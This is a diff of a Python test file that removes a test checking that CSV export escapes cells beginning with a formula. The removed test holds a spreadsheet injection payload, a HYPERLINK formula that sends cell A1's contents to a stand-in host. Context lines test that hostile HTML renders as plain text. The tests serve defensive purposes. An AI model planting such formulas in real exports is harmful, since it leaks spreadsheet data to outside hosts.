@@ -108,13 +108,3 @@ def test_every_page_shows_a_hostile_bundle_as_plain_text(store, tmp_path, page):
     assert not bad, bad
     charts = [s for s in chart_strings(at) if re.search(r"<(img|a|b)\b|HOST/", s, re.I) and "HOST" in s]
     assert not [s for s in charts if re.search(r"<(img|a|b)\b", s, re.I)], charts
-
-
-def test_csv_export_cells_cannot_start_a_formula():
-    import pandas as pd
-
-    df = pd.DataFrame({"id": [1, 2], "error": ['=HYPERLINK("http://HOST/x?"&A1,"open")', "plain -1"],
-                       "loss": [-1.5, 2.0]})
-    out = plain.csv_frame(df)
-    assert out["error"].tolist() == ['\'=HYPERLINK("http://HOST/x?"&A1,"open")', "plain -1"]
-    assert out["loss"].tolist() == [-1.5, 2.0] and df["error"][0].startswith("=")  # numbers kept, input untouched
